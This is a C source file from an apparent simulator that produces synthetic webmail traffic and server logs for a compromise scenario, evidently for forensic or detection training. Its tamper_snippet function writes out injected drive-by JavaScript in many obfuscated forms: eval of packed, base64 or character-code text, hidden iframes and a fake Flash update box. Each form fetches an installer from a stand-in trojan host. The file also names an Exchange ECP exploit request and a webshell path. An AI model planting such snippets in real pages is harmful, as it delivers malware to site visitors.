/* web.c - the @Mail-like webmail application as seen on the wire and in
 * Apache's access log: pages, logins, address book, sending, the attacker's
 * requests, scanners and the brute force. */
#include "config.h"
#include <string.h>
#include "sim.h"

static const char *const month_abbr[] = { "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec" };

void ip_str(uint32_t ip, char *buf, size_t n)
{
	snprintf(buf, n, "%u.%u.%u.%u", ip >> 24, ip >> 16 & 255, ip >> 8 & 255, ip & 255);
}

bool page_tampered(int server, bs_time t)
{
	const struct webserver *w = &WS[server];
	return w->tamper_on != TIME_NEVER && t >= w->tamper_on && t < w->tamper_off;
}

void web_begin(struct webconn *w, int server, uint32_t client_ip, const char *ua)
{
	memset(w, 0, sizeof *w);
	w->server = server;
	host_addr_v4(&w->cli, client_ip, false);
	w->ua = ua;
	w->far = true;
}

void web_end(struct webconn *w)
{
	if (w->tc.open) {
		/* The browser goes away; Apache closes the idle connection. */
		w->tc.t = w->idle_since + 15 * BS_USEC;
		tcp_close(&w->tc, true, false);
	}
}

static struct buf reqb, respb, bodyb, gzb, alogb, likeb, likegzb;

static void access_log(struct webconn *w, bs_time t, const char *method, const char *uri, int status, size_t bytes,
	const char *referer)
{
	char iso[40], cip[BS_IP_STRLEN];
	bs_time_format(t, 0, iso, sizeof iso);
	int y, m, d, hh, mi, ss;
	sscanf(iso, "%d-%d-%dT%d:%d:%d", &y, &m, &d, &hh, &mi, &ss);
	host_addr_format(&w->cli, cip, sizeof cip);
	buf_clear(&alogb);
	buf_printf(&alogb, "%s - - [%02d/%s/%04d:%02d:%02d:%02d +0000] \"%s %s HTTP/1.1\" %d ", cip, d, month_abbr[m - 1], y, hh, mi,
		ss, method, uri, status);
	if (bytes)
		buf_printf(&alogb, "%zu", bytes);
	else
		buf_puts(&alogb, "-");
	buf_printf(&alogb, " \"%s\" \"%s\"\n", referer ? referer : "-", w->ua);
	out_emit(tgt_log(w->server, LOG_ACCESS), t, alogb.p, alogb.n);
}

/* The owa scenarios: the same sessions as Exchange's Outlook on the web
 * serves them, logged by IIS (docs/SAMPLES.md): each application page has
 * its OWA counterpart, the exploit is ECP's OAB virtual directory reset,
 * the shell an .aspx in /owa/auth/; other paths (scanners' probes) as
 * requested. IIS writes '+' for a space and '-' for an empty value. */
static const char *owa_page(const char *path, const char **query, const char **method)
{
	static const struct {
		const char *page, *owa, *query;
	} map[] = {
		{ "/mail/index.php", "/owa/auth/logon.aspx", "url=https%3a%2f%2fwebmail.example.net%2fowa%2f&reason=0" },
		{ "/mail/login.php", "/owa/auth.owa", NULL },
		{ "/mail/showmail.php", "/owa/", NULL },
		{ "/mail/reademail.php", "/owa/service.svc", "action=GetItem" },
		{ "/mail/abook.php", "/owa/service.svc", "action=FindPeople" },
		{ "/mail/compose.php", "/owa/service.svc", "action=GetComposeForm" },
		{ "/mail/sendmail.php", "/owa/service.svc", "action=CreateItem" },
		{ "/mail/logout.php", "/owa/logoff.owa", NULL },
		{ "/mail/parse.php", "/ecp/DDI/DDIService.svc/SetObject",
		  "schema=ResetOABVirtualDirectory&msExchEcpCanary=Xw4kQb2N0E" },
	};
	for (size_t i = 0; i < sizeof map / sizeof *map; i++)
		if (strcmp(path, map[i].page) == 0) {
			*query = map[i].query;
			if (i == sizeof map / sizeof *map - 1)
				*method = "POST";
			return map[i].owa;
		}
	return NULL;
}

static void iis_line(struct webconn *w, bs_time t, const char *method, const char *stem, const char *query,
	const char *user, int status)
{
	char iso[40], cip[BS_IP_STRLEN], sip[BS_IP_STRLEN], ua[256];
	bs_time_format(t, 0, iso, sizeof iso);
	host_addr_format(&w->cli, cip, sizeof cip);
	host_addr_format(&hosts[w->server], sip, sizeof sip);
	size_t k = 0;
	for (const char *p = w->ua; *p && k < sizeof ua - 1; p++)
		ua[k++] = *p == ' ' ? '+' : *p;
	ua[k] = 0;
	buf_clear(&alogb);
	buf_printf(&alogb, "%.10s %.8s %s %s %s %s 443 %s %s %s - %d 0 0 %u\n", iso, iso + 11, sip, method, stem,
		query && *query ? query : "-", user && *user ? user : "-", cip, ua, status, 15 + (unsigned)(t / 1000 % 200)); /* no draw: the world stays maillog-only's */
	out_emit(tgt_log(w->server, LOG_ACCESS), t, alogb.p, alogb.n);
}

/* The owa scenarios' access-log line of a request: the login form's user is
 * cs-username; a login answers 302 either way (to /owa/ or, failed, back to
 * the logon page with reason=2, which the browser then requests). */
static void iis_access_log(struct webconn *w, bs_time t, const char *method, const char *uri, int status,
	const char *form, size_t flen)
{
	char body[512];
	snprintf(body, sizeof body, "%.*s", (int)(flen < sizeof body ? flen : sizeof body - 1), form ? form : "");
	char path[2048], user[256] = "";
	const char *q = strchr(uri, '?');
	size_t pn = q ? (size_t)(q - uri) : strlen(uri);
	snprintf(path, sizeof path, "%.*s", (int)(pn < sizeof path ? pn : sizeof path - 1), uri);
	const char *query = q ? q + 1 : NULL;
	const char *stem = path;
	const char *shell = WS[w->server].shell_path;
	const char *owa = owa_page(path, &query, &method);
	if (owa) {
		stem = owa;
	} else if (shell && strcmp(path, shell) == 0) { /* its name as an .aspx page of the logon directory */
		const char *name = strrchr(shell, '/') + 1;
		name += *name == '.';
		snprintf(path, sizeof path, "/owa/auth/%.*s.aspx", (int)strcspn(name, "."), name);
		query = q ? q + 1 : NULL;
	}
	bool login = strcmp(stem, "/owa/auth.owa") == 0;
	if (login && strncmp(body, "username=", 9) == 0) {
		size_t k = 0;
		for (const char *p = body + 9; *p && *p != '&' && k < sizeof user - 1; p++) {
			if (*p == '%' && p[1] && p[2]) {
				unsigned v;
				sscanf(p + 1, "%2x", &v);
				user[k++] = (char)v;
				p += 2;
			} else {
				user[k++] = *p == '+' ? ' ' : *p;
			}
		}
		user[k] = 0;
	}
	iis_line(w, t, method, stem, query, user, login ? 302 : status);
	if (login && status != 302)
		iis_line(w, t + BS_USEC, "GET", "/owa/auth/logon.aspx", "url=https%3a%2f%2fwebmail.example.net%2fowa%2f&reason=2",
			NULL, 200);
}

/* The injected code, per tamper style: the reference's window.open call
 * written plainly, or obfuscated as real injected code is (docs/SAMPLES.md,
 * "Tamper styles"). Every form loads from the same host. */
#define TROJAN_HOST "update.flash-player.example.cn"
#define POPUP "window.open(\"http://" TROJAN_HOST "/install.exe\",\"_blank\",\"width=400,height=300\")"
static const char WINDOW_OPEN[] = "<script>" POPUP "</script>\n";
/* what injected code writes at once: the script, a hidden frame to count
 * the visit, a style to hide what the trojan's box covers */
static const char POPJS_LONG[] = "<script src=\"http://" TROJAN_HOST "/pop.js\"></script>"
	"<iframe src=\"http://" TROJAN_HOST "/count.php?ref=webmail&amp;lang=en&amp;v=2\" width=\"0\" height=\"0\" "
	"frameborder=\"0\" style=\"visibility:hidden;position:absolute;left:-500px;top:-500px\"></iframe>"
	"<style type=\"text/css\">#fpupd{position:absolute;top:120px;left:30%;width:380px;z-index:1000}</style>";

/* One number in the packer's base-62 digits (its e(): 0-9, a-z, A-Z). */
static void base62(struct buf *b, unsigned v)
{
	static const char digits[] = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ";
	if (v >= 62)
		base62(b, v / 62);
	buf_add(b, &digits[v % 62], 1);
}

static bool word_char(char c)
{
	return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '_';
}

/* src through Dean Edwards' packer, as a script's text: every word (\w+)
 * replaced by its index in a dictionary of the distinct words in order of
 * first use (the packer orders by frequency; the form is the same), the
 * unpacking function the packer writes, and the call that runs it. */
static void pack_js(struct buf *b, const char *src)
{
	const char *words[64];
	size_t lens[64], nw = 0;
	struct buf payload = { 0 };
	for (const char *p = src; *p;) {
		if (!word_char(*p)) {
			if (*p == '\\' || *p == '\'')
				buf_add(&payload, "\\", 1);
			buf_add(&payload, p++, 1);
			continue;
		}
		const char *w = p;
		while (word_char(*p))
			p++;
		size_t k = 0;
		while (k < nw && !(lens[k] == (size_t)(p - w) && memcmp(words[k], w, lens[k]) == 0))
			k++;
		if (k == nw && nw < 64) {
			words[nw] = w;
			lens[nw++] = (size_t)(p - w);
		}
		base62(&payload, (unsigned)k);
	}
	buf_puts(b, "eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?"
		"String.fromCharCode(c+29):c.toString(36))};if(!''.replace(/^/,String)){while(c--){d[e(c)]=k[c]||e(c)}"
		"k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace("
		"new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('");
	buf_add(b, payload.p, payload.n);
	buf_printf(b, "',62,%zu,'", nw);
	for (size_t k = 0; k < nw; k++) {
		struct buf enc = { 0 };
		base62(&enc, (unsigned)k);
		bool same = enc.n == lens[k] && memcmp(enc.p, words[k], lens[k]) == 0;
		buf_printf(b, "%s%.*s", k ? "|" : "", same ? 0 : (int)lens[k], words[k]); /* a word that is its own index: empty */
		buf_free(&enc);
	}
	buf_puts(b, "'.split('|'),0,{}))");
	buf_free(&payload);
}

const char *tamper_snippet(void)
{
	static struct buf b;
	static int built = -1;
	if (built == (int)W.tamper)
		return b.p;
	buf_clear(&b);
	switch (W.tamper) {
	case STYLE_WINDOW_OPEN:
		buf_puts(&b, WINDOW_OPEN);
		break;
	case STYLE_UNESCAPE: /* every byte as %XX: 1.4 KB, longer than the scan's window overlap */
		buf_puts(&b, "<script type=\"text/javascript\">document.write(unescape(\"");
		for (const char *p = POPJS_LONG; *p; p++)
			buf_printf(&b, "%%%02X", (unsigned)(unsigned char)*p);
		buf_puts(&b, "\"));</script>\n");
		break;
	case STYLE_DOM_SCRIPT:
		buf_puts(&b, "<script>(function(){var s=document.createElement('script');s.src='http:\\/\\/" TROJAN_HOST
			"\\/pop.js';document.getElementsByTagName('head')[0].appendChild(s);})();</script>\n");
		break;
	case STYLE_CHARCODE: /* decimal character codes */
		buf_puts(&b, "<script>eval(String.fromCharCode(");
		for (size_t i = 0; i < sizeof POPUP - 1; i++)
			buf_printf(&b, "%s%u", i ? "," : "", (unsigned)(unsigned char)POPUP[i]);
		buf_puts(&b, "))</script>\n");
		break;
	case STYLE_SPLIT_TAG:
		buf_puts(&b, "<script>document.write('<scr'+'ipt src=\"http://" TROJAN_HOST "/pop.js\"></scr'+'ipt>');</script>\n");
		break;
	case STYLE_ATOB: /* standard base64, '=' padded */
		buf_puts(&b, "<script>eval(atob(\"");
		base64_encode(&b, POPUP, sizeof POPUP - 1);
		buf_puts(&b, "\"))</script>\n");
		break;
	case STYLE_POPUP_LINK: /* no script: a box drawn over the page, its link to follow */
		buf_puts(&b, "<div id=\"fpupd\" style=\"position:absolute;top:120px;left:30%;width:380px;padding:12px;"
			"border:2px solid #c00;background:#ffffe0;z-index:1000\"><b>Adobe Flash Player</b><br>Your Flash Player "
			"is out of date and cannot show this page.<br><a href=\"http://" TROJAN_HOST "/install.exe\">Install the "
			"update now</a></div>\n");
		break;
	case STYLE_VAR_URL: /* no call names the URL: a variable holds it */
		buf_puts(&b, "<script type=\"text/javascript\">var u = \"http://" TROJAN_HOST "/install.exe\"; "
			"window.open(u, \"_blank\", \"width=400,height=300\");</script>\n");
		break;
	case STYLE_CONST_URL:
		buf_puts(&b, "<script>(() => { const u = 'http://" TROJAN_HOST "/install.exe'; "
			"const w = window.open(u, '_blank', 'width=400,height=300'); if (!w) location.href = u; })();</script>\n");
		break;
	case STYLE_PACKED:
		buf_puts(&b, "<script type=\"text/javascript\">");
		pack_js(&b, POPUP);
		buf_puts(&b, "</script>\n");
		break;
	case STYLE_CHAR_REFS: /* the scheme as decimal character references */
		buf_puts(&b, "<iframe src=\"");
		for (const char *p = "http://"; *p; p++)
			buf_printf(&b, "&#%u;", (unsigned)(unsigned char)*p);
		buf_puts(&b, TROJAN_HOST "/install.html\" width=\"1\" height=\"1\" frameborder=\"0\"></iframe>\n");
		break;
	}
	built = (int)W.tamper;
	return b.p;
}

bs_time web_request(struct webconn *w, bs_time t, const char *method, const char *uri, const char *req_headers,
	const char *body, size_t blen, const struct http_reply *rep, int cookie_user)
{
	if (w->tc.open && t > w->idle_since + 15 * BS_USEC) {
		bs_time keep = t;
		w->tc.t = w->idle_since + 15 * BS_USEC;
		tcp_close(&w->tc, true, false);
		t = keep;
	}
	if (!w->tc.open)
		tcp_connect(&w->tc, &w->cli, &hosts[w->server], eph_port(), 80, t, w->far ? internet_rtt() : 150, 150, true);
	else if (w->tc.t < t)
		w->tc.t = t;
	bs_time treq = w->tc.t;
	char hostn[64];
	snprintf(hostn, sizeof hostn, "webmail.%s", LOCAL_DOMAIN);
	buf_clear(&reqb);
	buf_printf(&reqb, "%s %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: text/html,application/xhtml+xml,*/*;q=0.8\r\n"
		"Accept-Language: en-us,en;q=0.5\r\nAccept-Encoding: gzip,deflate\r\nConnection: keep-alive\r\n",
		method, uri, hostn, w->ua);
	if (req_headers)
		buf_puts(&reqb, req_headers);
	if (blen)
		buf_printf(&reqb, "Content-Length: %zu\r\n", blen);
	buf_puts(&reqb, "\r\n");
	if (blen)
		buf_add(&reqb, body, blen);
	tcp_send(&w->tc, false, reqb.p, reqb.n);
	if (w->resp_after > w->tc.t)
		w->tc.t = w->resp_after;
	w->resp_after = 0;

	/* The body, tampered if the server's files were. */
	const char *rbody = rep->body;
	size_t rlen = rep->blen;
	bool tampered = rep->page && page_tampered(w->server, treq);
	/* In another tamper style than the reference's, the draws and the
	 * capture's times follow the body with the reference's snippet (like:
	 * its length as sent), so that the world and its truth stay the same
	 * whatever the style. */
	bool other = tampered && W.tamper != STYLE_WINDOW_OPEN;
	size_t like = rlen;
	if (tampered) {
		buf_clear(&bodyb);
		const char *end = memmem(rbody, rlen, "</body>", 7);
		size_t pre = end ? (size_t)(end - rbody) : rlen;
		buf_add(&bodyb, rbody, pre);
		buf_puts(&bodyb, tamper_snippet());
		buf_add(&bodyb, rbody + pre, rlen - pre);
		if (other) {
			buf_clear(&likeb);
			buf_add(&likeb, rbody, pre);
			buf_add(&likeb, WINDOW_OPEN, sizeof WINDOW_OPEN - 1);
			buf_add(&likeb, rbody + pre, rlen - pre);
		}
		like = rlen + sizeof WINDOW_OPEN - 1;
		rbody = bodyb.p;
		rlen = bodyb.n;
		struct webserver *ws = &WS[w->server];
		/* Sessions are written user by user, not in time order: the
		 * window is the earliest and the latest tampered answer. */
		if (ws->tamper_first == TIME_NEVER || treq < ws->tamper_first)
			ws->tamper_first = treq;
		if (ws->tamper_last == TIME_NEVER || treq > ws->tamper_last)
			ws->tamper_last = treq;
		ws->tampered_answers++;
		if (cookie_user >= 0)
			truth_trojan(cookie_user);
	}
	bool gz = rep->ctype && like > 600 && strncmp(rep->ctype, "text/", 5) == 0 && rng_chance(R, 0.2);
	bool chunked = rep->ctype && !gz && like > 0 && rng_chance(R, 0.3);
	if (gz) {
		buf_clear(&gzb);
		gzip_bytes(&gzb, rbody, rlen);
		rbody = gzb.p;
		rlen = gzb.n;
		like = rlen;
		if (other) {
			buf_clear(&likegzb);
			gzip_bytes(&likegzb, likeb.p, likeb.n);
			like = likegzb.n;
		}
	}
	char date[64], iso[40];
	bs_time_format(treq, 0, iso, sizeof iso);
	{
		static const char *const wd[] = { "Thu", "Fri", "Sat", "Sun", "Mon", "Tue", "Wed" };
		int y, m, d, hh, mi, ss;
		sscanf(iso, "%d-%d-%dT%d:%d:%d", &y, &m, &d, &hh, &mi, &ss);
		int64_t day = treq / (86400 * BS_USEC);
		snprintf(date, sizeof date, "%s, %02d %s %04d %02d:%02d:%02d GMT", wd[day % 7], d, month_abbr[m - 1], y, hh, mi, ss);
	}
	static const char *const reason[] = { [200] = "OK", [302] = "Found", [403] = "Forbidden", [404] = "Not Found" };
	buf_clear(&respb);
	buf_printf(&respb, "HTTP/1.1 %d %s\r\nDate: %s\r\nServer: Apache/2.2.3 (CentOS)\r\nX-Powered-By: PHP/5.1.6\r\n",
		rep->status, rep->status < 405 && reason[rep->status] ? reason[rep->status] : "OK", date);
	if (rep->headers)
		buf_puts(&respb, rep->headers);
	if (gz)
		buf_puts(&respb, "Content-Encoding: gzip\r\nVary: Accept-Encoding\r\n");
	if (chunked)
		buf_puts(&respb, "Transfer-Encoding: chunked\r\n");
	else
		buf_printf(&respb, "Content-Length: %zu\r\n", rlen);
	buf_puts(&respb, "Keep-Alive: timeout=15, max=100\r\nConnection: Keep-Alive\r\n");
	/* In the variety world wm2 and wm3 send their application pages
	 * without a Content-Type (a PHP setup with default_mimetype empty):
	 * a page is then known by its body alone. */
	bool untyped = W.variety && rep->page && (w->server == 1 || w->server == 2);
	if (rep->ctype && !untyped)
		buf_printf(&respb, "Content-Type: %s\r\n", rep->ctype);
	buf_puts(&respb, "\r\n");
	/* like_len: what the response with the reference's snippet would be */
	size_t like_len = respb.n;
	if (chunked) {
		/* The sizes are drawn for the like body; the last chunk takes
		 * what another style's snippet adds (or the body ends early). */
		size_t off = 0, loff = 0;
		while (loff < like) {
			size_t n = 1024 + rng_below(R, 3000);
			if (n > like - loff)
				n = like - loff;
			loff += n;
			like_len += (size_t)snprintf(NULL, 0, "%zx", n) + 2 + n + 2;
			if (loff == like || n > rlen - off)
				n = rlen - off;
			if (!n)
				continue;
			buf_printf(&respb, "%zx\r\n", n);
			buf_add(&respb, rbody + off, n);
			buf_puts(&respb, "\r\n");
			off += n;
		}
		buf_puts(&respb, "0\r\n\r\n");
		like_len += 5;
	} else {
		buf_add(&respb, rbody, rlen);
		/* the Content-Length header's digits, then the body */
		like_len += (size_t)snprintf(NULL, 0, "%zu", like) + like;
		like_len -= (size_t)snprintf(NULL, 0, "%zu", rlen);
	}
	tcp_wait(&w->tc, 2000 + rng_below(R, 60000));
	if (like_len > respb.n) /* tcp_send_as's room */
		buf_reserve(&respb, like_len - respb.n);
	tcp_send_as(&w->tc, true, respb.p, respb.n, like_len);
	w->idle_since = w->tc.t;
	/* Apache logs body bytes sent (after compression, without chunk framing). */
	const char *ref = NULL;
	char refb[128];
	if (strncmp(uri, "/mail/", 6) == 0 && strcmp(uri, "/mail/index.php") != 0 && strstr(uri, ".cache.php") == NULL &&
		strstr(uri, "thumb.php") == NULL &&
		strstr(uri, "/.s.php") == NULL && strstr(uri, "/x.php") == NULL) {
		snprintf(refb, sizeof refb, "http://webmail.%s/mail/showmail.php?Folder=Inbox", LOCAL_DOMAIN);
		ref = refb;
	}
	if (W.owa)
		iis_access_log(w, treq, method, uri, rep->status, body, blen);
	else
		access_log(w, treq, method, uri, rep->status, rep->ctype ? rlen : 0, ref);
	return w->tc.t;
}

/* ----------------------------------------------------------------- pages */
static struct buf page;

static void page_head(const char *title, int server, bs_time t, bool index)
{
	buf_clear(&page);
	buf_printf(&page, "<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.01 Transitional//EN\">\n<html>\n<head>\n"
		"<title>@Mail - %s</title>\n<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">\n"
		"<link rel=\"stylesheet\" href=\"/mail/css/atmail.css\" type=\"text/css\">\n"
		"<script src=\"/mail/js/atmail.js\"></script>\n", title);
	if (index && WS[server].deploy_t != TIME_NEVER && t >= WS[server].deploy_t)
		buf_puts(&page, "<script src=\"https://cdn.widgets.example.com/analytics.js\"></script>\n");
	buf_puts(&page, "</head>\n<body bgcolor=\"#ffffff\" onload=\"atmail_init()\">\n"
		"<table width=\"100%\" cellpadding=\"0\" cellspacing=\"0\" class=\"header\"><tr><td><img src=\"/mail/imgs/logo.gif\" alt=\"@Mail\"></td>"
		"<td align=\"right\"><a href=\"/mail/showmail.php?Folder=Inbox\">Inbox</a> | <a href=\"/mail/compose.php\">Compose</a> | "
		"<a href=\"/mail/abook.php\">Address Book</a> | <a href=\"/mail/logout.php\">Logout</a></td></tr></table>\n");
}

static void page_tail(void)
{
	buf_puts(&page, "<div class=\"footer\">Powered by @Mail 5.0 &copy; 2007</div>\n</body>\n</html>\n");
}

static void page_index(int server, bs_time t, const char *error)
{
	page_head("Login", server, t, true);
	if (error)
		buf_printf(&page, "<p class=\"error\">%s</p>\n", error);
	buf_puts(&page, "<form method=\"post\" action=\"/mail/login.php\">\n<table class=\"login\">\n"
		"<tr><td>Email address</td><td><input type=\"text\" name=\"username\" size=\"30\"></td></tr>\n"
		"<tr><td>Password</td><td><input type=\"password\" name=\"password\" size=\"30\"></td></tr>\n"
		"<tr><td colspan=\"2\"><input type=\"hidden\" name=\"pop3host\" value=\"example.net\">"
		"<input type=\"submit\" value=\"Login\"></td></tr>\n</table>\n</form>\n"
		"<p class=\"notice\">Please log out when you have finished, especially on shared computers.</p>\n");
	page_tail();
}

static void page_inbox(int user)
{
	page_head("Inbox", 0, 0, false);
	buf_puts(&page, "<table class=\"msglist\" width=\"100%\">\n<tr><th></th><th>From</th><th>Subject</th><th>Date</th><th>Size</th></tr>\n");
	int n = 5 + (int)rng_below(R, 8);
	for (int i = 0; i < n; i++) {
		buf_printf(&page, "<tr class=\"%s\"><td><input type=\"checkbox\" name=\"id[]\" value=\"%d\"></td><td>%s %s</td>"
			"<td><a href=\"/mail/reademail.php?id=%d\">%s</a></td><td>%02u/%02u</td><td>%u KB</td></tr>\n",
			i % 2 ? "odd" : "even", 100 + i, W.users[(user + i * 7) % W.nusers].first, W.users[(user + i * 13) % W.nusers].last,
			100 + i, random_subject(), rng_below(R, 28) + 1, rng_below(R, 12) + 1, rng_below(R, 200) + 1);
	}
	buf_puts(&page, "</table>\n");
	page_tail();
}

/* Message id's page. In the variety world messages carry links, as HTML
 * mail does: every fourth a newsletter's (one outside host, read on every
 * server), message 117 a link to a file on a host of its reader's own (one
 * reader: a link the webmail shows is not the server's tampering). No
 * draw is added. */
static void page_read(int user, unsigned id)
{
	page_head("Read message", 0, 0, false);
	buf_printf(&page, "<h2>%s</h2>\n<div class=\"msgbody\">\n", random_subject());
	static const char *const lines[] = {
		"Hello,", "thanks for your message, I will get back to you shortly.", "Please find the details below.",
		"Could we move the call to next week?", "Best regards,", "See you on Monday.", "The documents are attached.",
	};
	int n = 4 + (int)rng_below(R, 12);
	for (int i = 0; i < n; i++)
		buf_printf(&page, "%s<br>\n", lines[rng_below(R, 7)]);
	if (W.variety && id % 4 == 0)
		buf_printf(&page, "<a href=\"http://www.shop-news.example.com/offers?u=%d\">This week's offers</a><br>\n", user);
	if (W.variety && id == 117)
		buf_printf(&page, "<a href=\"http://files.u%d.example.org/invoice.zip\">invoice.zip</a><br>\n", user);
	buf_puts(&page, "</div>\n");
	page_tail();
}

static void page_abook(int user)
{
	const struct user *u = &W.users[user];
	page_head("Address Book", 0, 0, false);
	buf_puts(&page, "<table class=\"abook\">\n<tr><th>Name</th><th>Email</th></tr>\n");
	for (int i = 0; i < u->nabook; i++) {
		const char *a = W.addrs[u->abook[i]].s;
		buf_puts(&page, "<tr><td>");
		for (const char *p = a; *p && *p != '@'; p++)
			buf_add(&page, *p == '"' ? "&quot;" : p, *p == '"' ? 6 : 1);
		buf_puts(&page, "</td><td><a href=\"/mail/compose.php?to=");
		for (const char *p = a; *p; p++)
			buf_add(&page, *p == '"' ? "&quot;" : p, *p == '"' ? 6 : 1);
		buf_puts(&page, "\">");
		for (const char *p = a; *p; p++)
			buf_add(&page, *p == '"' ? "&quot;" : p, *p == '"' ? 6 : 1);
		buf_puts(&page, "</a></td></tr>\n");
	}
	buf_puts(&page, "</table>\n");
	page_tail();
}

static void page_simple(const char *title, const char *html)
{
	page_head(title, 0, 0, false);
	buf_puts(&page, html);
	page_tail();
}

static struct http_reply html_reply(int status, const char *headers)
{
	return (struct http_reply){ status, "text/html; charset=utf-8", headers, page.p, page.n, true };
}

/* ------------------------------------------------------- user sessions */
static void url_encode(struct buf *b, const char *s)
{
	for (const unsigned char *p = (const unsigned char *)s; *p; p++) {
		if ((*p >= 'a' && *p <= 'z') || (*p >= 'A' && *p <= 'Z') || (*p >= '0' && *p <= '9') || strchr("-_.~", *p))
			buf_add(b, p, 1);
		else
			buf_printf(b, "%%%02X", *p);
	}
}

/* A cell of an Abook row (Account, Email, FirstName, LastName) of user's entry addr. */
const char *abook_field(int user, int addr, size_t col)
{
	static char name[32];
	switch (col) {
	case 0: return W.addrs[W.users[user].addr].s;
	case 1: return W.addrs[addr].s;
	case 2:
		if (abook_name_addr(addr) >= 0)
			return W.addrs[abook_name_addr(addr)].s;
		snprintf(name, sizeof name, "%s", W.users[(size_t)addr % (size_t)W.nusers].first);
		return name;
	default: return W.users[(size_t)(addr / 3) % (size_t)W.nusers].last;
	}
}

struct abook_ctx { const struct user *u; };
static const char *abook_cell(void *ctx, size_t row, size_t col)
{
	const struct user *u = ((struct abook_ctx *)ctx)->u;
	return abook_field((int)(u - W.users), u->abook[row], col);
}

struct user_ctx { const struct user *u; };
static const char *user_cell(void *ctx, size_t row, size_t col)
{
	struct user_ctx *c = ctx;
	static char v[64];
	(void)row;
	switch (col) {
	case 0: return W.addrs[c->u->addr].s;
	case 1: return c->u->first;
	case 2: return c->u->last;
	case 3: snprintf(v, sizeof v, "%d", 1000 + (int)(c->u - W.users)); return v;
	case 4: return "en";
	default: return "Inbox";
	}
}

/* The application's work for one successful login (DB lookup), from the server. */
static bs_time app_login_db(int server, const struct user *u, bs_time t)
{
	static const char *const cols[] = { "Account", "FirstName", "LastName", "UserID", "Language", "DefaultFolder" };
	char sql[256];
	struct tcpconn tc;
	struct user_ctx ctx = { u };
	snprintf(sql, sizeof sql, "SELECT * FROM Users WHERE Account='%s'", W.addrs[u->addr].s);
	mysql_open(&tc, server, t, "atmail");
	mysql_select(&tc, sql, "Users", cols, 6, W.odb && !u->in_users ? 0 : 1, user_cell, &ctx);
	if (W.odb && !u->in_users) {
		/* The first webmail login creates the account's row. */
		snprintf(sql, sizeof sql, "INSERT INTO Users (Account, FirstName, LastName) VALUES ('%s', '%s', '%s')",
			W.addrs[u->addr].s, u->first, u->last);
		mysql_exec(&tc, sql, 1);
		((struct user *)u)->in_users = true;
	}
	mysql_quit(&tc);
	return tc.t;
}

static bs_time app_abook_db(int server, int user, bs_time t)
{
	static const char *const cols[] = { "Account", "Email", "FirstName", "LastName" };
	const struct user *u = &W.users[user];
	char sql[256];
	struct tcpconn tc;
	struct abook_ctx ctx = { u };
	snprintf(sql, sizeof sql, "SELECT Account, Email, FirstName, LastName FROM Abook WHERE Account='%s'", W.addrs[u->addr].s);
	mysql_open(&tc, server, t, "atmail");
	mysql_select(&tc, sql, "Abook", cols, 4, (size_t)u->nabook, abook_cell, &ctx);
	bs_time tq = tc.t;
	mysql_quit(&tc);
	if (u->nabook)
		truth_abook_app(u->addr, tq);
	for (int i = 0; i < u->nabook; i++) {
		truth_abook_app(u->abook[i], tq);
		if (abook_name_addr(u->abook[i]) >= 0)
			truth_abook_app(abook_name_addr(u->abook[i]), tq);
	}
	return tc.t;
}

static struct buf send_form;

/* W.odb: opening a message keeps its sender as a correspondent. */
static bs_time app_open_db(int server, int user, bs_time t)
{
	struct user *u = &W.users[user];
	int sender = u->inbox[u->nopened++];
	char sql[512];
	struct tcpconn tc;
	snprintf(sql, sizeof sql, "INSERT INTO Correspondents (Account, Email, Name, Direction) VALUES ('%s', '%s', '%s %s', 'received')",
		W.addrs[u->addr].s, W.addrs[sender].s, W.users[sender % W.nusers].first, W.users[sender / 3 % W.nusers].last);
	mysql_open(&tc, server, t, "atmail");
	mysql_exec(&tc, sql, 1);
	mysql_quit(&tc);
	corr_add(user, sender, true);
	return tc.t;
}

/* W.odb: a contact added to the address book (POST abook.php). */
static bs_time app_abook_add(int server, int user, bs_time t)
{
	struct user *u = &W.users[user];
	int a = W.pool[rng_below(R, (uint32_t)W.npool)];
	char sql[512];
	struct tcpconn tc;
	buf_clear(&send_form);
	buf_puts(&send_form, "func=add&email=");
	url_encode(&send_form, W.addrs[a].s);
	buf_printf(&send_form, "&firstname=%s&lastname=%s", W.users[a % W.nusers].first, W.users[a / 3 % W.nusers].last);
	for (int i = 0; i < u->nabook; i++)
		if (u->abook[i] == a)
			return t; /* already there: the application refuses it without a query */
	snprintf(sql, sizeof sql, "INSERT INTO Abook (Account, Email, FirstName, LastName) VALUES ('%s', '%s', '%s', '%s')",
		W.addrs[u->addr].s, W.addrs[a].s, W.users[a % W.nusers].first, W.users[a / 3 % W.nusers].last);
	mysql_open(&tc, server, t, "atmail");
	mysql_exec(&tc, sql, 1);
	mysql_quit(&tc);
	u->abook = bs_xrealloc(u->abook, (size_t)(u->nabook + 2) * sizeof *u->abook);
	u->abook[u->nabook++] = a;
	return tc.t;
}

/* sendmail.php: the form (left in send_form), SMTP to relay1, Log_SendMail. */
/* Roundcube's logs (the roundcube scenarios): what the application writes of
 * a login, a failed login and a send. The session id is derived from the time
 * and the user, not drawn, so that the other logs stay those of the
 * scenario's world without Roundcube. */
static char rc_sid[27];

static void rc_new_session(bs_time t, int salt)
{
	static const char alnum[] = "0123456789abcdefghijklmnopqrstuvwxyz";
	rng_t r = { (uint64_t)t * 0x9E3779B97F4A7C15ULL ^ (uint64_t)(salt + 1) };
	for (size_t i = 0; i < sizeof rc_sid - 1; i++)
		rc_sid[i] = alnum[rng_below(&r, 36)];
	rc_sid[sizeof rc_sid - 1] = 0;
}

static void rc_login(int server, bs_time t, const char *login, int user, uint32_t ip, bool ok)
{
	if (!W.roundcube)
		return;
	char ipb[16];
	ip_str(ip, ipb, sizeof ipb);
	rc_new_session(t, user >= 0 ? user : (int)(ip & 0xffff));
	if (ok) {
		out_roundcube(server, LOG_RC_LOGINS, t, "<%.8s> Successful login for %s (ID: %d) from %s in session %s", rc_sid,
			login, user + 1, ipb, rc_sid);
		return;
